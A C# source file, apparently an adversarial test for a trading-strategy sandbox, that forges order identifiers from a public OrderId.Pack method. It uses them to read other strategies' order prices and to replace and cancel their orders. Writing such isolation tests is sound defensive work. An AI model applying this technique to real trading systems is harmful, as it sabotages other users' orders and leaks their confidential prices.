// Abuses: OrderId.Pack is public: guesses the identifiers of other slots' orders and cancels or replaces them.
// Harm: another strategy loses its quotes; TryGetOrder would tell its prices.
// Kind: hurts another slot or the process.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.ForgedOrderIdsAttack;

public sealed class ForgedOrderIdsStrategy : Attacker
{
    public override void OnBook(in BookEvent bookEvent)
    {
        SendResult own = Context.Send(NewOrder.Limit(bookEvent.Instrument, Side.Buy, new Price(Price.Scale), 1));
        for (ulong back = 1; back < 200 && back < own.OrderId.Counter; back++)
        {
            OrderId other = OrderId.Pack(own.OrderId.Cell, own.OrderId.TradingDay, own.OrderId.Counter - back);
            if (Context.TryGetOrder(other, out WorkingOrder order)) { _n += order.Price.Raw; }
            Context.Replace(other, new Price(1), 1_000_000);
            Context.Cancel(other);
        }

        Act(1);
    }
}
